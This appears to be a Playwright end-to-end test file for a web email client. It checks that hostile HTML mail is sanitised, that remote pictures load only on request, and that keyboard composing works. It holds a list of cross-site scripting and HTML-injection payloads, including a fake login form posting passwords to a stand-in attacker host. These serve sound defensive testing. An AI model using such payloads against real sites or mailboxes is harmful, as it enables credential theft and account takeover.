import type { Page } from 'playwright-core';
import { expect, it } from 'vitest';
import { violationsOf } from '#axe.ts';
import { onHosts, type Stage } from '#hosts.ts';
import { actAs, callApi, openAs } from '#journey.ts';

/** What a hostile mail tries; each would call `caught`, cover the page, or ask another server. */
const vectors = [
  '<script>top.caught("script")</script>',
  '<img src=x onerror="top.caught(1)">',
  '<svg onload="top.caught(2)"><animate onbegin="top.caught(3)" attributeName="x"/></svg>',
  '<a id="trap" href="javascript:top.caught(4)">press</a>',
  '<iframe srcdoc="<script>top.caught(5)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror="top.caught(6)"></style></mglyph></table></mtext></math>',
  '<form action="https://evil.example/steal" target="_top"><input name="password"><button>Sign in</button></form>',
  '<style>html, body { position: fixed; inset: 0; z-index: 99999; background: url(https://evil.example/style) }</style>',
  '<div style="position:fixed;inset:-5000px;z-index:2147483647;background:url(https://evil.example/css)">cover</div>',
  '<p style="--x:url(https://evil.example/var);background-image:var(--x)">var</p>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/away"><base href="https://evil.example/">',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><video poster="https://evil.example/p">',
  '<input onfocus="top.caught(7)" autofocus><details open ontoggle="top.caught(8)">d</details>',
  '<img name="body" id="cookie" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
];

async function sendTo(stage: Stage, page: Page, subject: string, message: string): Promise<void> {
  await actAs(stage, page, 'driver');
  const body = { to: [{ email: 'admin@demo.com' }], subject, message };
  expect((await callApi(page, 'POST', '/api/apps/email/send', body)).status).toBe(201);
}

onHosts((stage) => {
  it('a hostile mail neither runs nor covers the app nor asks another server for anything', async () => {
    const page = await stage.newPage();
    await sendTo(stage, page, 'You have won', `<p>Hello</p>${vectors.join('')}`);
    await openAs(stage, page, 'admin', 'apps/email');
    await page.evaluate(() =>
      Object.assign(globalThis, { caught: (what: unknown) => document.body.append(`CAUGHT ${what}`) }),
    );
    await page.getByRole('article', { name: /You have won/ }).click();
    const frame = page.frameLocator('iframe');
    await frame.getByText('Hello').waitFor();
    expect(await frame.locator('body').evaluate((body) => body.innerHTML)).not.toMatch(
      /<(?:script|svg|math|form|input|style|iframe|object|embed|video|meta|base)|\son\w+=|javascript:|\s(?:id|name)=/i,
    );
    const box = await page.locator('iframe').boundingBox();
    const bar = await page.getByRole('button', { name: 'Back to the list' }).boundingBox();
    expect((bar?.y ?? 0) + (bar?.height ?? 0)).toBeLessThanOrEqual(box?.y ?? 0);
    await page.getByRole('button', { name: 'Back to the list' }).click({ trial: true });
    expect(await page.getByText('CAUGHT').count()).toBe(0);
    expect(stage.complaints.filter((one) => !one.includes('Content Security Policy'))).toEqual([]);
  });

  // A service worker fetches for the pages of the other host, past the one who answers here.
  it.runIf(stage.name === 'server')(
    'pictures of other servers are asked for once somebody says so; links open elsewhere',
    async () => {
      const page = await stage.newPage();
      const asked: string[] = [];
      await page.context().route('https://pictures.example/**', (route) => {
        asked.push(route.request().url());
        return route.fulfill({
          contentType: 'image/svg+xml',
          body: '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"/>',
        });
      });
      const message =
        '<p>Look</p><img src="https://pictures.example/van.svg"><a href="https://pictures.example/page">More</a>';
      await sendTo(stage, page, 'A picture', message);
      await openAs(stage, page, 'admin', 'apps/email');
      await page.getByRole('article', { name: /A picture/ }).click();
      const frame = page.frameLocator('iframe');
      await frame.getByText('Look').waitFor();
      expect(asked).toEqual([]);
      expect(await frame.getByRole('link', { name: 'More' }).getAttribute('rel')).toBe('noopener noreferrer nofollow');
      await page.getByRole('button', { name: 'Show pictures' }).click();
      await expect.poll(() => asked).toEqual(['https://pictures.example/van.svg']);
      await expect
        .poll(() => frame.locator('img').evaluate((image) => (image as HTMLImageElement).naturalWidth))
        .toBe(40);
    },
  );

  it('a mail is written by keyboard, formatted, sent, and read by who got it', async () => {
    const page = await stage.newPage();
    await openAs(stage, page, 'admin', 'apps/email');
    await page.getByRole('button', { name: 'New mail' }).first().click();
    const to = page.getByRole('combobox', { name: 'To' });
    await expect.poll(() => to.evaluate((one) => one === document.activeElement)).toBe(true);
    await page.keyboard.type('driver@');
    await page.getByRole('option').first().waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.getByRole('textbox', { name: 'Subject' }).fill('Keys of the van');
    await page.getByRole('textbox', { name: 'Text of the mail' }).click();
    await page.keyboard.press('Control+b');
    await page.keyboard.type('In the box');
    await page.getByText('Draft saved at').waitFor();
    expect(await violationsOf(page)).toEqual([]);
    await page.keyboard.press('Control+Enter');
    await page.getByText('Mail sent').waitFor();
    await openAs(stage, page, 'driver', 'apps/email');
    const row = page.getByRole('article', { name: /^Unread, Amina Haddad, Keys of the van/ });
    await row.focus();
    await page.keyboard.press('Enter');
    await page.frameLocator('iframe').locator('strong', { hasText: 'In the box' }).waitFor();
    expect(await violationsOf(page)).toEqual([]);
    expect(stage.complaints).toEqual([]);
  });
});
